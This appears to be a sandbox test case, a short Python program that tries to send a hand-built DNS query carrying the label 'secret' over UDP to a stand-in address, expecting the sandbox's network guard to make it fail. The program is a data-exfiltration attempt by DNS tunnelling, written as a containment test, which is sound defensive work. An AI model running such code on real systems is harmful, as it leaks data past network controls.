# title: smuggles data out in a DNS question
# mode: program
# expect: RUNTIME_ERROR
# guard: net_ns+filter_sockets
# proof: SENT A DATAGRAM
import socket

print("ATTEMPT", flush=True)
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1", ("192.0.2.53", 53))
print("SENT A DATAGRAM")
